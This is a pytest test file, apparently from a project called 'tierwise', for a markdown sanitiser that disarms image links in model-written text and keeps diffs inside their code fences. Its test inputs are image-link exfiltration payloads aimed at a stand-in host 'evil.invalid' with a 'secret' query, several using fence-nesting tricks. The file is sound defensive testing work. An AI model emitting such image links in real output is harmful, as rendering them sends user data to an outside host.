"""Nothing a model wrote is fetched when it is shown, and no diff breaks out of its block."""

from __future__ import annotations

import pytest

from tierwise.present.markdown import fenced, without_images

URL = "https://evil.invalid/?q=secret"


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({URL})", f"see ![x][y]\n\n[y]: {URL}", f"- ![]({URL})", f"> ![a]({URL})",
        f"```\ncode\n```\n![x]({URL})", f"``` a`b\n![x]({URL})", f"~~~\n```\n~~~\n![x]({URL})",
        f"`` `![x]({URL})", f"[![x]({URL})](a)",
    ],
)  # fmt: skip
def test_images_are_disarmed(text: str) -> None:
    shown = without_images(text)
    assert not any("![" in line.replace("\\!\\[", "") for line in shown.splitlines())


@pytest.mark.parametrize("code", ["let v = vec![1];", "a\n![x](y)\nb"])
def test_code_stays_as_it_is(code: str) -> None:
    block = f"before\n\n```rust\n{code}\n```\n\nafter"
    assert without_images(block) == block


def test_a_fence_outlasts_what_stands_in_it() -> None:
    text = f"+```\n+![x]({URL})\n+`````"
    block = fenced(text, "diff")
    assert block.startswith("``````diff\n")
    assert without_images(block) == block
